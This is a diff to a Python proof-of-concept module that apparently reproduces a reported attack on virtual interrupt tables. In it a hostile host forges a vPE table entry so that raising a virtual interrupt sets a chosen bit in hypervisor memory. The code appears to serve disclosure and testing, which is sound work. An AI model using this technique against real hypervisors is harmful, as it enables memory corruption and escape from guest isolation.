@@ -20,13 +20,16 @@ if TYPE_CHECKING:
 __all__ = ["forged_vte", "unchecked_virtual", "vpt_in_hyp"]
 
 _DEVICE: Final = 0xE0
-_VINTID: Final = FIRST_LPI + 0x21
+_VINTID: Final = FIRST_LPI + 0x24
+_OTHER: Final = FIRST_LPI + 0x29
+"""Virtual INTIDs whose bits are clear in the victims' pages, so that a bit that is set is seen to be set."""
 _VPT_PAGES: Final = 16
 _VPT_SIZE: Final = 15
 
 
 def _vpe(host: HostileHost, vpe_id: int, vpt: int, *, valid: int = 1, size: int = _VPT_SIZE) -> str:
     """VMAPP; what became of it."""
+    host.cover(TABLE_VPES, vpe_id)
     return host.post(VMAPP(vpe_id=vpe_id, rd_base=0, valid=valid, vpt_size=size, vpt_addr=vpt))[0]
 
 
@@ -64,7 +67,7 @@ def vpt_in_hyp(host: HostileHost) -> None:
 def forged_vte(host: HostileHost) -> None:
     """The mail's second attack: the host edits a vPE table entry; raising an interrupt sets one bit where it points."""
     victim = host.hyp_page(14)
-    at = victim + (_VINTID + 8) // 8
+    at = victim + _OTHER // 8
     _device(host, _DEVICE + 1)
     host.say("Map a vPE honestly, so that there is an entry.")
     _vpe(host, 8, host.pages(_VPT_PAGES, SIZE_64K))
@@ -75,7 +78,7 @@ def forged_vte(host: HostileHost) -> None:
     host.say("Edit the entry: VPT_base is now the hypervisor's memory.")
     host.store(entry, VTE.STRUCT.pack(*VTE(valid=1, vpt_size=_VPT_SIZE, vpt_addr=victim, rd_base=0).encode()))
     host.say("Raise a virtual interrupt: one bit, chosen by its vINTID, is set there.")
-    _raise(host, _DEVICE + 1, 8, 0, _VINTID + 8)
+    _raise(host, _DEVICE + 1, 8, 0, _OTHER)
     host.show("The same byte, after: one bit.", at, 4)
 
 
